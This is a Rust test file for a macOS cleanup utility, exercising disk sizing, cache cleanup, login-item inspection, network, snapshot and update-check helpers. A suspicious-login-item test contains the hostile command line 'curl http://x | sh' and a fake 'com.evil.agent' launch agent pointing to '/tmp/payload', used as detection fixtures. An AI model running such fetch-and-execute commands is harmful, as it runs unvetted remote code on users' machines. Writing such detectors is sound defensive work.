use burrow::apfs::{plist_u64, purgeable_info, snapshot_dates, snapshot_sizes, tm_snapshots};
use burrow::app_updates::{
    app_store_candidate, app_store_lookup_url, app_store_result, app_store_update, sparkle_checkable,
    sparkle_result, store_country, AppStoreUpdate,
};
use burrow::browse::{
    cap_children, disk_breakdown, disk_entry, du_args, parse_du_line, parse_du_report, size_in_report,
    DiskEntry, MAX_DISK_CHILDREN,
};
use burrow::catalogs::{privacy_item, privacy_item_size, resolve_privacy_items};
use burrow::cleanup::{ai_cache_items, dev_cache_items};
use burrow::inventory::{
    active_users, app_info, clean_category_sizes, clean_size_locations, clean_step, deleted_user_entry,
    deleted_user_name, installer_file, installer_folders, rank_installer_files, safe_clean_bytes, sort_apps,
    AppInfo, CleanAction, CleanCategorySize,
};
use burrow::login_items::{
    launch_program, login_item_entry, order_login_items, plist_field_value, suspicious_reason,
};
use burrow::network::{
    default_route_interface, dns_servers, interface_service, network_service, service_names, split_words,
};
use burrow::order::{sort_by_key, sort_largest_first};
use burrow::storage::{
    artifact_step, derived_data_name, derived_data_project, disk_categories, disk_category_locations,
    large_file, large_file_find_args, listed_files, platform_label, project_artifact, project_folders,
    rank_large_files, rank_project_artifacts, sim_runtime, workspace_root, ArtifactStep, ProjectMarkers,
    MAX_ARTIFACTS, MIN_ARTIFACT_BYTES,
};
use burrow::updates::SparkleUpdate;

const HOME: &str = "/Users/test";

fn no_markers() -> ProjectMarkers {
    ProjectMarkers {
        composer_json: false,
        go_mod: false,
        gemfile: false,
        build_gradle: false,
        build_gradle_kts: false,
        cmake_lists: false,
        cargo_toml: false,
        pom_xml: false,
        package_swift: false,
    }
}

fn artifact_type(step: ArtifactStep) -> Option<String> {
    match step {
        ArtifactStep::Artifact(t) => Some(t),
        _ => None,
    }
}

// ── Orderings ───────────────────────────────────────────────────────────────

#[test]
fn largest_first_keeps_equal_sizes_in_order() {
    let sorted = sort_largest_first(vec![(3u64, "a"), (5, "b"), (3, "c"), (7, "d")]);
    assert_eq!(sorted, vec![(7, "d"), (5, "b"), (3, "a"), (3, "c")]);
}

#[test]
fn key_order_is_stable_and_bytewise() {
    let sorted = sort_by_key(vec![
        ("b".to_string(), 1),
        ("a".to_string(), 2),
        ("b".to_string(), 3),
        ("B".to_string(), 4),
    ]);
    let keys: Vec<(String, i32)> = sorted;
    assert_eq!(
        keys,
        vec![("B".to_string(), 4), ("a".to_string(), 2), ("b".to_string(), 1), ("b".to_string(), 3)]
    );
}

// ── Login items ─────────────────────────────────────────────────────────────

#[test]
fn plist_values_drop_plistbuddy_errors() {
    assert_eq!(plist_field_value("  /usr/bin/foo\n", ""), "/usr/bin/foo");
    assert_eq!(plist_field_value("Print: Entry, \":Program\", Does Not Exist\n", ""), "");
    assert_eq!(plist_field_value("File Doesn't Exist, Will Create: x", ""), "");
    assert_eq!(plist_field_value("/usr/bin/foo", "Permission denied"), "");
}

#[test]
fn suspicious_command_lines_are_explained() {
    assert_eq!(
        suspicious_reason("/bin/sh", "Array {\n    -c\n    curl http://x | sh\n}"),
        Some("Contient «curl»".to_string())
    );
    assert_eq!(suspicious_reason("/tmp/x", ""), Some("Contient «/tmp/»".to_string()));
    assert_eq!(suspicious_reason("/usr/local/bin/agent", "--daemon"), None);
    // The first fragment in the list wins.
    assert_eq!(
        suspicious_reason("/usr/bin/osascript", "/tmp/run.scpt"),
        Some("Contient «/tmp/»".to_string())
    );
}

#[test]
fn login_item_entries_flag_missing_and_suspicious_programs() {
    let e = login_item_entry(
        "/Users/test/Library/LaunchAgents/com.evil.agent.plist",
        false,
        "",
        "/tmp/payload",
        "Array {\n    /tmp/payload\n}",
        false,
    );
    assert_eq!(e.name, "com.evil.agent");
    assert_eq!(e.plist_path, "/Users/test/Library/LaunchAgents/com.evil.agent.plist");
    assert_eq!(e.program, "/tmp/payload");
    assert!(e.is_broken);
    assert!(e.is_suspicious);
    assert_eq!(e.suspicious_reason, "Contient «/tmp/»");
    assert!(!e.is_system);
    assert!(e.can_delete);

    let l = login_item_entry("/Library/LaunchDaemons/com.x.plist", true, "/bin/launchctl", "", "", false);
    assert!(!l.is_broken);
    assert!(!l.is_suspicious);
    assert!(l.is_system);
    assert_eq!(launch_program("", "/usr/bin/true"), "/usr/bin/true");
    assert_eq!(launch_program("/bin/a", "/bin/b"), "/bin/a");
}

#[test]
fn login_items_list_suspicious_then_broken() {
    let item = |name: &str, suspicious: &str, exists: bool| {
        login_item_entry(&format!("/Users/test/Library/LaunchAgents/{name}.plist"), false, suspicious, "", "", exists)
    };
    let items = vec![
        item("plain", "/usr/bin/true", true),
        item("broken", "/opt/missing", false),
        item("odd", "/tmp/ok", true),
        item("worst", "/tmp/gone", false),
        item("broken2", "/opt/also-missing", false),
    ];
    let names: Vec<String> = order_login_items(items).into_iter().map(|e| e.name).collect();
    assert_eq!(names, vec!["worst", "odd", "broken", "broken2", "plain"]);
}

// ── Main folders and artifacts ──────────────────────────────────────────────

#[test]
fn main_folders_are_listed_largest_first() {
    let locations = disk_category_locations(HOME);
    assert_eq!(locations.len(), 9);
    assert_eq!(locations[0], "/Applications");
    assert_eq!(locations[2], "/Users/test/Downloads");
    assert_eq!(locations[8], "/Users/test/.Trash");
    let cats = disk_categories(HOME, &[100, 0, 300, 0, 0, 0, 0, 200, 5]);
    let got: Vec<(String, String, String, u64)> =
        cats.into_iter().map(|c| (c.id, c.name, c.path, c.size_bytes)).collect();
    assert_eq!(
        got,
        vec![
            ("downloads".into(), "Téléchargements".into(), "/Users/test/Downloads".into(), 300),
            ("pictures".into(), "Photos".into(), "/Users/test/Pictures".into(), 200),
            ("applications".into(), "Applications".into(), "/Applications".into(), 100),
            ("trash".into(), "Corbeille".into(), "/Users/test/.Trash".into(), 5),
        ]
    );
    let ties: Vec<String> = disk_categories(HOME, &[50, 50]).into_iter().map(|c| c.id).collect();
    assert_eq!(ties, vec!["applications", "documents"]);
}

#[test]
fn artifact_steps_follow_project_markers() {
    let m = no_markers();
    assert_eq!(artifact_type(artifact_step("node_modules", &m)), Some("node_modules".to_string()));
    assert_eq!(artifact_type(artifact_step(".next", &m)), Some("Next.js build".to_string()));
    assert_eq!(artifact_type(artifact_step("venv", &m)), Some("Python venv".to_string()));
    assert!(matches!(artifact_step("vendor", &m), ArtifactStep::Skip));
    assert!(matches!(artifact_step(".git", &m), ArtifactStep::Skip));
    assert!(matches!(artifact_step(".cache", &m), ArtifactStep::Skip));
    assert!(matches!(artifact_step(".build", &m), ArtifactStep::Skip));
    assert!(matches!(artifact_step("src", &m), ArtifactStep::Descend));
    let go = ProjectMarkers { go_mod: true, ..no_markers() };
    assert_eq!(artifact_type(artifact_step("vendor", &go)), Some("Go vendor/".to_string()));
    let php_go = ProjectMarkers { composer_json: true, go_mod: true, ..no_markers() };
    assert_eq!(artifact_type(artifact_step("vendor", &php_go)), Some("Composer vendor/".to_string()));
    let rust = ProjectMarkers { cargo_toml: true, ..no_markers() };
    assert_eq!(artifact_type(artifact_step("target", &rust)), Some("Rust target/".to_string()));
    let cmake = ProjectMarkers { cmake_lists: true, ..no_markers() };
    assert_eq!(artifact_type(artifact_step("build", &cmake)), Some("CMake build/".to_string()));
    let kts = ProjectMarkers { build_gradle_kts: true, ..no_markers() };
    assert_eq!(artifact_type(artifact_step(".gradle", &kts)), Some("Gradle cache".to_string()));
    assert_eq!(artifact_type(artifact_step("build", &kts)), Some("Gradle build/".to_string()));
    let swift = ProjectMarkers { package_swift: true, ..no_markers() };
    assert_eq!(artifact_type(artifact_step(".build", &swift)), Some("Swift .build/".to_string()));
}

#[test]
fn project_artifacts_are_named_filtered_and_capped() {
    let folders = project_folders(HOME);
    assert_eq!(folders.len(), 12);
    assert_eq!(folders[0], "/Users/test/Developer");
    assert_eq!(folders[11], "/Users/test/code");
    let a = project_artifact("/Users/test/Developer/app", "node_modules", "/Users/test/Developer/app/node_modules", 5);
    assert_eq!(a.project_name, "app");
    assert_eq!(a.project_path, "/Users/test/Developer/app");
    let small = project_artifact("/p/a", "x", "/p/a/x", MIN_ARTIFACT_BYTES - 1);
    let big = project_artifact("/p/b", "x", "/p/b/x", 10 * MIN_ARTIFACT_BYTES);
    let mid = project_artifact("/p/c", "x", "/p/c/x", MIN_ARTIFACT_BYTES);
    let ranked: Vec<String> = rank_project_artifacts(vec![small, big, mid]).into_iter().map(|a| a.project_name).collect();
    assert_eq!(ranked, vec!["b", "c"]);
    let many: Vec<_> = (0..160u64)
        .map(|i| project_artifact(&format!("/p/{i}"), "x", "/p/x", MIN_ARTIFACT_BYTES + i))
        .collect();
    let kept = rank_project_artifacts(many);
    assert_eq!(kept.len(), MAX_ARTIFACTS);
    assert_eq!(kept[0].size_bytes, MIN_ARTIFACT_BYTES + 159);
    assert_eq!(kept[149].size_bytes, MIN_ARTIFACT_BYTES + 10);
}

#[test]
fn large_files_come_from_find_output() {
    assert_eq!(
        large_file_find_args(&vec!["/Users/test/Downloads".to_string()]),
        vec!["/Users/test/Downloads", "-type", "f", "-size", "+100M"]
    );
    assert_eq!(listed_files("/a/b.mov\n\n/c/d.iso\n"), vec!["/a/b.mov", "/c/d.iso"]);
    let f = large_file("/Users/test/Movies/film.mov", 200, 86_400 * 3 + 5);
    assert_eq!(f.name, "film.mov");
    assert_eq!(f.days_old, 3);
    let files: Vec<_> = (0..101u64).map(|i| large_file(&format!("/f{i}"), i, 0)).collect();
    let kept = rank_large_files(files);
    assert_eq!(kept.len(), 100);
    assert_eq!(kept[0].name, "f100");
    assert_eq!(kept[99].name, "f1");
}

#[test]
fn derived_data_folders_are_named_after_their_project() {
    let plist = "<dict>\n\t<key>LastAccessedDate</key>\n\t<date>2025-01-01</date>\n\t<key>WorkspaceRootPath</key>\n\t<string>/Users/test/Code/App</string>\n</dict>";
    assert_eq!(workspace_root(plist), "/Users/test/Code/App");
    assert_eq!(workspace_root("<dict></dict>"), "");
    assert_eq!(derived_data_name("My-App-abcdefghijkl"), "My App");
    assert_eq!(derived_data_name("NoHash"), "NoHash");
    let p = derived_data_project("/Users/test/Library/Developer/Xcode/DerivedData/My-App-abc", Some(plist), 10);
    assert_eq!(p.name, "My App");
    assert_eq!(p.workspace_path, "/Users/test/Code/App");
    let q = derived_data_project("/d/Tool-xyz", None, 1);
    assert_eq!(q.workspace_path, "");
}

#[test]
fn simulator_runtimes_show_their_platform() {
    assert_eq!(platform_label("com.apple.CoreSimulator.SimRuntime.iOS-17-4"), "iOS 17 4");
    assert_eq!(platform_label("watchOS"), "watchOS");
    let r = sim_runtime(
        "com.apple.CoreSimulator.SimRuntime.iOS-17-4".into(),
        "17.4".into(),
        "21E213".into(),
        "com.apple.platform.iphonesimulator",
        7_000_000_000,
        true,
        "2025-01-01".into(),
    )
    .expect("runtime");
    assert_eq!(r.platform, "iphonesimulator");
    assert!(sim_runtime(String::new(), "1".into(), "b".into(), "x", 0, false, String::new()).is_none());
}

// ── Disk browser ────────────────────────────────────────────────────────────

#[test]
fn children_are_capped() {
    let (kept, truncated) = cap_children((0..600).collect::<Vec<u32>>());
    assert_eq!(kept.len(), MAX_DISK_CHILDREN);
    assert!(truncated);
    let (kept, truncated) = cap_children(vec![1, 2]);
    assert_eq!(kept, vec![1, 2]);
    assert!(!truncated);
}

#[test]
fn du_is_asked_with_masks_and_reports_are_read() {
    assert_eq!(
        du_args(&vec!["/Users/test/A".to_string()]),
        vec![
            "-s", "-k", "-P", "-I", ".ssh", "-I", ".gnupg", "-I", ".aws", "-I", ".kube", "-I", "1Password", "-I",
            "Keychains", "-I", "com.apple.TCC", "--", "/Users/test/A",
        ]
    );
    assert_eq!(parse_du_line("12\t/h/A"), Some(("/h/A".to_string(), 12 * 1024)));
    assert_eq!(parse_du_line(" 7 \t/h/B c"), Some(("/h/B c".to_string(), 7 * 1024)));
    assert_eq!(parse_du_line("abc\t/x"), None);
    assert_eq!(parse_du_line("12 /x"), None);
    assert_eq!(parse_du_line("18446744073709551615\t/big"), Some(("/big".to_string(), u64::MAX)));
    let report = parse_du_report("4\t/a\nbad\n8\t/b\n16\t/a\n");
    assert_eq!(
        report,
        vec![("/a".to_string(), 4096), ("/b".to_string(), 8192), ("/a".to_string(), 16384)]
    );
    assert_eq!(size_in_report(&report, "/a"), 16384);
    assert_eq!(size_in_report(&report, "/c"), 0);
}

#[test]
fn disk_breakdown_lists_sized_children_largest_first() {
    let report = parse_du_report("4\t/h/A\n0\t/h/Empty\n");
    let a = disk_entry("/h/A", true, 0, &report).expect("folder");
    assert_eq!((a.name.as_str(), a.size_bytes, a.is_dir), ("A", 4096, true));
    assert!(disk_entry("/h/Empty", true, 0, &report).is_none());
    assert!(disk_entry("/h/zero.txt", false, 0, &report).is_none());
    let f = disk_entry("/h/big.bin", false, 10_000, &report).expect("file");
    assert_eq!(f.size_bytes, 10_000);
    let result = disk_breakdown(vec![a, f], true);
    let names: Vec<String> = result.entries.iter().map(|e: &DiskEntry| e.name.clone()).collect();
    assert_eq!(names, vec!["big.bin", "A"]);
    assert!(result.truncated);
}

// ── Inventories ─────────────────────────────────────────────────────────────

#[test]
fn applications_exclude_apple_and_sort_by_lowercase_name() {
    assert!(app_info("/Applications/Safari.app", "com.apple.Safari").is_none());
    assert!(app_info("/Applications/notes.txt", "x").is_none());
    let slack = app_info("/Applications/Slack.app", "com.tinyspeck.slackmacgap").expect("app");
    assert_eq!(slack.name, "Slack");
    assert_eq!(slack.size_mb, 0);
    let apps: Vec<AppInfo> = ["zeta", "Alpha", "beta"]
        .iter()
        .map(|n| app_info(&format!("/Applications/{n}.app"), "org.example").unwrap())
        .collect();
    let names: Vec<String> = sort_apps(apps).into_iter().map(|a| a.name).collect();
    assert_eq!(names, vec!["Alpha", "beta", "zeta"]);
}

#[test]
fn installers_are_recognized_by_extension_in_any_case() {
    let folders = installer_folders(HOME);
    assert_eq!(folders.len(), 4);
    assert_eq!(
        folders[3],
        ("/Users/test/Library/Caches/Homebrew/downloads".to_string(), "Homebrew Cache".to_string())
    );
    let dmg = installer_file("/Users/test/Downloads/Setup.DMG", 10, "Downloads").expect("dmg");
    assert_eq!(dmg.name, "Setup.DMG");
    assert_eq!(dmg.source, "Downloads");
    assert!(installer_file("/Users/test/Downloads/readme.txt", 1, "Downloads").is_none());
    assert!(installer_file("/Users/test/Downloads/noext", 1, "Downloads").is_none());
    let pkg = installer_file("/Users/test/Desktop/a.pkg", 50, "Desktop").unwrap();
    let names: Vec<String> = rank_installer_files(vec![dmg, pkg]).into_iter().map(|f| f.name).collect();
    assert_eq!(names, vec!["a.pkg", "Setup.DMG"]);
}

#[test]
fn clean_categories_are_measured_and_counted() {
    let locations = clean_size_locations(HOME);
    assert_eq!(locations.len(), 9);
    assert_eq!(locations[0], "/Users/test/Library/Caches");
    assert_eq!(locations[6], "/Users/test/Library/Application Support/MobileSync/Backup");
    let sizes = clean_category_sizes(&[1, 2, 3, 4, 5, 6, 7, 8, 9], &[10, 20, 30, 40]);
    assert_eq!(sizes.len(), 10);
    assert_eq!((sizes[0].id.as_str(), sizes[0].size_mb), ("user_cache", 1));
    assert_eq!((sizes[9].id.as_str(), sizes[9].size_mb), ("browser_cache", 100));
    let cats = vec![
        CleanCategorySize { id: "user_cache".into(), size_mb: 1 },
        CleanCategorySize { id: "ios_backups".into(), size_mb: 5 },
        CleanCategorySize { id: "trash".into(), size_mb: 7 },
        CleanCategorySize { id: "browser_cache".into(), size_mb: 2 },
    ];
    assert_eq!(safe_clean_bytes(&cats), 3 * 1024 * 1024);
}

#[test]
fn cleaning_steps_depend_on_the_category() {
    let step = clean_step("user_cache", HOME).expect("known");
    assert_eq!(step.label, "Cache utilisateur");
    assert!(matches!(step.action, CleanAction::ChildrenOf(ref p) if p == "/Users/test/Library/Caches"));
    let npm = clean_step("npm_cache", HOME).expect("known");
    assert!(matches!(npm.action, CleanAction::Paths(ref ps)
        if ps == &vec!["/Users/test/.npm/cache".to_string(), "/Users/test/.npm/_logs".to_string()]));
    let browsers = clean_step("browser_cache", HOME).expect("known");
    assert!(matches!(browsers.action, CleanAction::Paths(ref ps) if ps.len() == 4));
    let trash = clean_step("trash", HOME).expect("known");
    assert!(matches!(trash.action, CleanAction::Refused(ref why) if why.contains("jamais")));
    assert!(clean_step("unknown", HOME).is_none());
}

#[test]
fn deleted_users_are_home_folders_without_an_account() {
    let active = active_users("_www\nroot\n  alice  \n\nbob\n");
    assert_eq!(active, vec!["root", "alice", "bob"]);
    assert_eq!(deleted_user_name("/Users/charlie", &active), Some("charlie".to_string()));
    assert_eq!(deleted_user_name("/Users/Shared", &active), None);
    assert_eq!(deleted_user_name("/Users/.localized", &active), None);
    assert_eq!(deleted_user_name("/Users/alice", &active), None);
    let e = deleted_user_entry("charlie".into(), "/Users/charlie", 3);
    assert_eq!(e.size_bytes, 3 * 1024 * 1024);
    assert_eq!(deleted_user_entry("x".into(), "/Users/x", u64::MAX).size_bytes, u64::MAX);
}

#[test]
fn privacy_items_take_space_or_are_left_out() {
    assert_eq!(privacy_item_size(true, 2, 99), 2 * 1024 * 1024);
    assert_eq!(privacy_item_size(false, 2, 99), 99);
    assert!(privacy_item("a".into(), "A".into(), "/p".into(), false, 0, 0).is_none());
    let item = privacy_item("a".into(), "A".into(), "/p".into(), false, 0, 12).expect("item");
    assert_eq!(item.size_bytes, 12);
}

#[test]
fn cache_catalogues_list_what_holds_something() {
    let items = dev_cache_items(HOME, &[10, 0, 5]);
    let got: Vec<(String, String, u64)> = items.into_iter().map(|i| (i.id, i.path, i.size_bytes)).collect();
    assert_eq!(
        got,
        vec![
            ("npm".to_string(), "/Users/test/.npm".to_string(), 10),
            ("pnpm".to_string(), "/Users/test/Library/pnpm/store".to_string(), 5),
        ]
    );
    let ai = ai_cache_items(HOME, &[0, 7]);
    assert_eq!(ai.len(), 1);
    assert_eq!(ai[0].label, "Ollama — Cache");
    assert_eq!(ai[0].path, "/Users/test/Library/Caches/ollama");
}

// ── Network services ────────────────────────────────────────────────────────

#[test]
fn words_split_on_whitespace_runs() {
    assert_eq!(split_words("  a  bc\td \n"), vec!["a", "bc", "d"]);
    assert!(split_words("   ").is_empty());
}

#[test]
fn the_default_route_names_its_interface_and_service() {
    let route = "   route to: default\ndestination: default\n  interface: en0\n      flags: <UP,GATEWAY>\n";
    assert_eq!(default_route_interface(route), Some("en0".to_string()));
    assert_eq!(default_route_interface("nothing here\n"), None);
    let order = "An asterisk (*) denotes that a network service is disabled.\n(1) Wi-Fi\n(Hardware Port: Wi-Fi, Device: en0)\n\n(2) Thunderbolt Bridge\n(Hardware Port: Thunderbolt Bridge, Device: bridge0)\n";
    assert_eq!(interface_service(order, "en0"), Some("Wi-Fi".to_string()));
    assert_eq!(interface_service(order, "bridge0"), Some("Thunderbolt Bridge".to_string()));
    assert_eq!(interface_service(order, "en5"), None);
}

#[test]
fn services_and_dns_servers_are_listed() {
    let listing = "An asterisk (*) denotes that a network service is disabled.\nWi-Fi\n*Bluetooth PAN\nThunderbolt Bridge\n\n";
    assert_eq!(service_names(listing), vec!["Wi-Fi", "Thunderbolt Bridge"]);
    assert!(dns_servers("There aren't any DNS Servers set on Wi-Fi.\n").is_empty());
    assert_eq!(dns_servers("1.1.1.1\n 9.9.9.9 \n"), vec!["1.1.1.1", "9.9.9.9"]);
    let svc = network_service("Wi-Fi".into(), "1.1.1.1\n", &Some("Wi-Fi".into()));
    assert!(svc.active);
    assert_eq!(svc.dns_servers, vec!["1.1.1.1"]);
    assert!(!network_service("Ethernet".into(), "", &Some("Wi-Fi".into())).active);
    assert!(!network_service("Ethernet".into(), "", &None).active);
}

// ── APFS ────────────────────────────────────────────────────────────────────

#[test]
fn purgeable_space_comes_from_the_volume_plist() {
    let raw = "<dict>\n<key>APFSContainerFree</key>\n<integer>500</integer>\n<key>TotalSize</key>\n<integer> 1000 </integer>\n<key>VolumeAvailableSpace</key>\n<integer>300</integer>\n</dict>";
    assert_eq!(plist_u64(raw, "TotalSize"), 1000);
    assert_eq!(plist_u64(raw, "Missing"), 0);
    let info = purgeable_info(raw);
    assert_eq!((info.purgeable_bytes, info.free_bytes, info.total_bytes), (200, 300, 1000));
    let odd = "<key>APFSContainerFree</key><integer>100</integer><key>VolumeAvailableSpace</key><integer>300</integer>";
    assert_eq!(purgeable_info(odd).purgeable_bytes, 0);
}

#[test]
fn local_snapshots_are_listed_with_their_sizes() {
    let list = "Snapshots for disk /:\ncom.apple.TimeMachine.2024-12-01-153022.local\ncom.apple.TimeMachine.2024-12-02-100000.local\n";
    let dates = snapshot_dates(list);
    assert_eq!(dates, vec!["2024-12-01-153022", "2024-12-02-100000"]);
    let plist = "<array>\n<dict>\n<key>SnapshotName</key>\n<string>com.apple.TimeMachine.2024-12-01-153022.local</string>\n<key>SnapshotSize</key>\n<integer>123456</integer>\n</dict>\n</array>\n";
    let sizes = snapshot_sizes(plist);
    assert_eq!(sizes, vec![("2024-12-01-153022".to_string(), 123456)]);
    let snaps = tm_snapshots(dates, &sizes);
    assert_eq!(snaps.len(), 2);
    assert_eq!((snaps[0].date.as_str(), snaps[0].size_bytes), ("2024-12-01-153022", 123456));
    assert_eq!((snaps[1].date.as_str(), snaps[1].size_bytes), ("2024-12-02-100000", 0));
}

// ── Update lists ────────────────────────────────────────────────────────────

fn sparkle(name: &str) -> SparkleUpdate {
    SparkleUpdate {
        name: name.to_string(),
        path: format!("/Applications/{name}.app"),
        current_version: "1.0".into(),
        latest_version: "2.0".into(),
        download_url: "https://example.com/a.zip".into(),
        release_notes: String::new(),
    }
}

#[test]
fn feed_checks_are_gathered_by_name() {
    assert!(sparkle_checkable(true, Some("https://x/appcast.xml"), false, false));
    assert!(!sparkle_checkable(false, Some("https://x/appcast.xml"), true, true));
    assert!(!sparkle_checkable(true, Some("ftp://x"), false, false));
    assert!(sparkle_checkable(true, None, true, false));
    assert!(sparkle_checkable(true, None, false, true));
    let result = sparkle_result(
        vec![
            ("Zed".into(), "1.0".into(), None),
            ("Cursor".into(), "0.4".into(), Some(sparkle("Cursor"))),
            ("Bear".into(), "1.1".into(), None),
            ("Arc".into(), "2.0".into(), Some(sparkle("Arc"))),
        ],
        4,
    );
    let updates: Vec<&str> = result.updates.iter().map(|u| u.name.as_str()).collect();
    let current: Vec<(&str, &str)> =
        result.up_to_date.iter().map(|u| (u.name.as_str(), u.current_version.as_str())).collect();
    assert_eq!(updates, vec!["Arc", "Cursor"]);
    assert_eq!(current, vec![("Bear", "1.1"), ("Zed", "1.0")]);
    assert_eq!(result.checked, 4);
}

#[test]
fn app_store_lookups_and_updates() {
    assert_eq!(store_country(Some("fr_FR\n")), "fr");
    assert_eq!(store_country(Some("en_US")), "us");
    assert_eq!(store_country(Some("en")), "us");
    assert_eq!(store_country(None), "us");
    assert!(!app_store_candidate("Pages", "com.apple.iWork.Pages"));
    assert!(!app_store_candidate("Burrow", "com.karimachi.burrow"));
    assert!(app_store_candidate("Things", "com.culturedcode.ThingsMac"));
    assert_eq!(
        app_store_lookup_url("com.x", "macSoftware", "fr"),
        "https://itunes.apple.com/lookup?bundleId=com.x&entity=macSoftware&country=fr"
    );
    let u = app_store_update("Things", "com.c", "3.1", "3.2", " notes \n", "https://apps", 42).expect("newer");
    assert_eq!(u.release_notes, "notes");
    assert_eq!(u.track_id, 42);
    assert!(u.from_store);
    assert!(app_store_update("Things", "com.c", "3.2", "3.2", "", "", 0).is_none());
    assert!(app_store_update("Things", "com.c", "3.10", "3.9", "", "", 0).is_none());
    let result = app_store_result(
        vec![("Things".into(), "3.1".into(), Some(u)), ("Affinity".into(), "2.0".into(), None)],
        2,
    );
    let names: Vec<&str> = result.updates.iter().map(|u: &AppStoreUpdate| u.name.as_str()).collect();
    assert_eq!(names, vec!["Things"]);
    assert_eq!(result.up_to_date[0].name, "Affinity");
}

#[test]
fn privacy_listing_follows_the_catalogue() {
    let none: Vec<Vec<bool>> = vec![vec![false; 3]; 20];
    assert!(resolve_privacy_items("/Users/u", &none).is_empty());
    assert!(resolve_privacy_items("/Users/u", &Vec::new()).is_empty());
    let mut some = none.clone();
    some[2] = vec![false, true, true];
    some[0] = vec![true];
    let r = resolve_privacy_items("/Users/u", &some);
    assert_eq!(r.len(), 2);
    assert_eq!(r[0].0, "safari_history");
    assert_eq!(r[0].2, "/Users/u/Library/Safari/History.db");
    assert_eq!(r[1].0, "chrome_cache");
    assert_eq!(r[1].2, "/Users/u/Library/Caches/com.google.Chrome");
}
